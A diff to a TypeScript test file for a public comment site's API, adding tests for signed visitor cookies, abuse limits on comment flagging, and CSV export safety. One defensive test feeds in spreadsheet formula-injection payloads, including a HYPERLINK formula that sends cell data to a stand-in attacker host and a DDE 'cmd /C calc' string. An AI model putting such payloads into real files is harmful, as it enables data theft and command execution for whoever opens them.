@@ -2,6 +2,7 @@
 import fs from 'node:fs';
 import path from 'node:path';
 import { db } from '@/lib/server/db/knex';
+import { staffQueue } from '@/lib/server/services/comments';
 import { resetEnvCache } from '@/lib/server/env';
 import * as deleteInteraction from '@/pages/api/comment/delete-comment-interaction';
 import * as exportRoute from '@/pages/api/comment/export';
@@ -11,6 +12,7 @@ import * as insertComment from '@/pages/api/comment/insert-comment';
 import * as insertInteraction from '@/pages/api/comment/insert-comment-interaction';
 import * as moderate from '@/pages/api/comment/moderate-comment';
 import * as similar from '@/pages/api/comment/similar-comments';
+import * as visitorRoute from '@/pages/api/comment/visitor';
 import * as templates from '@/pages/api/comment/templates';
 import * as respond from '@/pages/api/comment/update-comment-response-and-category';
 import * as alertMail from '@/pages/api/email/comment-alert';
@@ -69,7 +71,14 @@ const cookieOf = (res: { headers: Headers }) => {
   const m = /vtrans_visitor=([^;]+)/.exec(set);
   return m ? { cookie: `vtrans_visitor=${m[1]}` } : ({} as Record<string, string>);
 };
+/** A cookie the browser made up (or kept from before ids were signed): fine for agreeing, not for flagging. */
 const newVisitor = () => ({ cookie: `vtrans_visitor=${crypto.randomUUID()}` });
+/** A visitor cookie the site issued, as the map gets it before someone flags (GET /api/comment/visitor). */
+async function issuedVisitor(): Promise<Record<string, string>> {
+  const res = await call(visitorRoute);
+  expect(res.json).toEqual({ ready: true });
+  return cookieOf(res);
+}
 
 async function create(change: Record<string, unknown> = {}) {
   const res = await post(insertComment, { ...VALID, ...change });
@@ -87,7 +96,7 @@ describe('POST /api/comment/insert-comment', () => {
     expect(res.status).toBe(201);
     expect(res.json).toEqual({ id: expect.any(Number), status: 'pending', held: [] });
     expect(res.headers.get('set-cookie')).toMatch(
-      /^vtrans_visitor=[0-9a-f-]{36}; Path=\/; Max-Age=31536000; HttpOnly; SameSite=Lax$/,
+      /^vtrans_visitor=[0-9a-f-]{36}\.[\w-]{43}; Path=\/; Max-Age=31536000; HttpOnly; SameSite=Lax$/,
     );
     const row = await (
       await db()
@@ -315,7 +324,7 @@ describe('interactions: agree and flag, one of each per visitor', () => {
     const reasons = ['spam', 'offensive', 'off-topic'];
     const answers = [];
     for (const reason of reasons)
-      answers.push((await post(insertInteraction, { id, type: 'flag', reason }, newVisitor())).json);
+      answers.push((await post(insertInteraction, { id, type: 'flag', reason }, await issuedVisitor())).json);
     expect(answers.map((a) => (a as { held: boolean }).held)).toEqual([false, false, true]);
     const row = await (await db())('comments').where({ id }).first();
     expect(row).toMatchObject({ status: 'pending', hold_reasons: 'flagged' });
@@ -343,6 +352,116 @@ describe('interactions: agree and flag, one of each per visitor', () => {
     expect((await post(insertInteraction, { id: waiting, type: 'agree' })).status).toBe(404);
     expect((await post(deleteInteraction, { id: waiting, type: 'agree' })).status).toBe(404);
     expect((await post(deleteInteraction, { id, type: 'like' })).status).toBe(400);
+  });
+});
+
+describe('flags: abuse guards (issue 22 §6)', () => {
+  let id: number;
+  beforeEach(async () => {
+    id = await create({ category: 'transit', comment: 'The 7 bus should run every 15 minutes on Sundays.' });
+    await approve(id);
+  });
+  const flag = (headers: Record<string, string>, reason = 'spam') =>
+    post(insertInteraction, { id, type: 'flag', reason }, headers);
+  const status = async () => (await (await db())('comments').where({ id }).first()).status as string;
+  const flagRows = async () =>
+    (await db())('comment_interactions').where({ comment_id: id, interaction: 'flag' });
+
+  it('GET /api/comment/visitor issues a signed visitor cookie once, private and never cached', async () => {
+    const first = await call(visitorRoute);
+    expect(first.status).toBe(200);
+    expect(first.headers.get('cache-control')).toBe('private, no-store');
+    expect(first.headers.get('set-cookie')).toMatch(/^vtrans_visitor=[0-9a-f-]{36}\.[\w-]{43}; Path=\//);
+    const again = await call(visitorRoute, { headers: cookieOf(first) });
+    expect(again.headers.get('set-cookie')).toBeNull();
+    // An unsigned id from before ids were signed is re-issued signed, with the same id.
+    const legacy = crypto.randomUUID();
+    const upgraded = await call(visitorRoute, { headers: { cookie: `vtrans_visitor=${legacy}` } });
+    expect(upgraded.headers.get('set-cookie')).toMatch(new RegExp(`^vtrans_visitor=${legacy}\\.[\\w-]{43};`));
+  });
+
+  it('a flag without a visitor cookie is refused (403: reload the page), and nothing is stored', async () => {
+    for (let i = 0; i < 4; i++) {
+      const res = await flag({});
+      expect(res.status).toBe(403);
+      expect(res.json).toMatchObject({
+        error: { code: 'forbidden', message: expect.stringMatching(/Reload the page/) },
+      });
+      expect(res.headers.get('set-cookie')).toBeNull();
+    }
+    expect(await flagRows()).toHaveLength(0);
+    expect(await status()).toBe('approved');
+  });
+
+  it('a forged visitor cookie is refused: made up, unsigned, badly signed, or another id’s signature', async () => {
+    const real = (await issuedVisitor()).cookie!.replace('vtrans_visitor=', '');
+    const [, signature] = real.split('.');
+    for (const forged of [
+      crypto.randomUUID(),
+      `${crypto.randomUUID()}.${'A'.repeat(43)}`,
+      `${crypto.randomUUID()}.${signature}`,
+      `${real}x`,
+      'not-a-uuid',
+    ]) {
+      expect((await flag({ cookie: `vtrans_visitor=${forged}` })).status).toBe(403);
+    }
+    expect(await flagRows()).toHaveLength(0);
+    expect((await flag({ cookie: `vtrans_visitor=${real}` })).status).toBe(200);
+  });
+
+  it('flags from one client address count once, however many issued cookies send them', async () => {
+    const same = { 'x-forwarded-for': '192.0.2.77' };
+    const answers = [];
+    for (let i = 0; i < 5; i++) answers.push((await flag({ ...(await issuedVisitor()), ...same })).json);
+    expect(answers.map((a) => (a as { count: number; held: boolean }).count)).toEqual([1, 1, 1, 1, 1]);
+    expect(answers.every((a) => !(a as { held: boolean }).held)).toBe(true);
+    expect(await status()).toBe('approved');
+    // Stored as an HMAC of the address, never the address itself.
+    const rows = await flagRows();
+    expect(new Set(rows.map((r: { client_hash: string }) => r.client_hash)).size).toBe(1);
+    expect(rows[0].client_hash).toMatch(/^[0-9a-f]{64}$/);
+    expect(JSON.stringify(rows)).not.toContain('192.0.2.77');
+    // IPv6 counts by /64 (one household gets a whole /64): two addresses in it are one; another /64 is another.
+    const v6 = async (address: string) =>
+      (await flag({ ...(await issuedVisitor()), 'x-forwarded-for': address })).json as {
+        count: number;
+        held: boolean;
+      };
+    expect(await v6('2001:db8:1:2::1')).toMatchObject({ count: 2, held: false });
+    expect(await v6('2001:db8:1:2:ffff::9')).toMatchObject({ count: 2, held: false });
+    expect(await v6('2001:db8:1:3::1')).toMatchObject({ count: 3, held: true });
+    expect(await status()).toBe('pending');
+  });
+
+  it('re-approval clears the flags (kept in the audit trail) and marks it reviewed: later flags no longer hide it', async () => {
+    for (const reason of ['spam', 'offensive', 'off-topic']) await flag(await issuedVisitor(), reason);
+    expect(await status()).toBe('pending');
+    await approve(id);
+    expect(await status()).toBe('approved');
+    expect(await flagRows()).toHaveLength(0);
+    const row = await (await db())('comments').where({ id }).first();
+    expect(row.reviewed_at).not.toBeNull();
+    expect(row.hold_reasons ?? '').not.toContain('flagged');
+    const trail = (await (await db())('comment_audit').where({ comment_id: id }).orderBy('id')) as Array<{
+      action: string;
+      note: string | null;
+    }>;
+    expect(trail.filter((a) => a.action === 'flagged')).toHaveLength(3);
+    expect(trail.at(-1)).toMatchObject({
+      action: 'flags cleared',
+      note: expect.stringMatching(/^3 flags cleared \(Spam/),
+    });
+
+    // One more flag (the old attack), then many more from different addresses: recorded, shown, still published.
+    const answers = [];
+    for (let i = 0; i < 4; i++)
+      answers.push((await flag(await issuedVisitor())).json as { count: number; held: boolean });
+    expect(answers.map((a) => a.count)).toEqual([1, 2, 3, 4]);
+    expect(answers.some((a) => a.held)).toBe(false);
+    expect(await status()).toBe('approved');
+    const mine = (await staffQueue()).find((c) => c.id === id);
+    expect(mine).toMatchObject({ status: 'approved', flags: 4, reviewedAt: expect.any(String) });
+    expect(mine?.flagReasons).toHaveLength(4);
   });
 });
 
@@ -465,6 +584,19 @@ describe('staff: respond and categorise, moderate, templates, export', () => {
     expect(geo.text).not.toContain('@example.com');
     const bad = await call(exportRoute, { query: { format: 'xlsx' }, headers: await staff() });
     expect(bad.status).toBe(400);
+  });
+
+  it('the CSV export neutralises formulas from an anonymous, still-pending comment (issue 22 §5)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click here to see the crash data")';
+    const id = await create({ comment: formula, name: '@SUM(1+1)*cmd|" /C calc"!A0' });
+    const csv = await call(exportRoute, { query: { format: 'csv' }, headers: await staff() });
+    const line = csv.text.split('\n').find((l) => l.startsWith(`${id},`));
+    expect(line).toContain(
+      `,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click here to see the crash data"")",`,
+    );
+    expect(line).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0",`);
+    // Numbers stay numbers: the negative longitude is not quoted.
+    expect(line).toContain(',37.5407,-77.4338,');
   });
 });
 
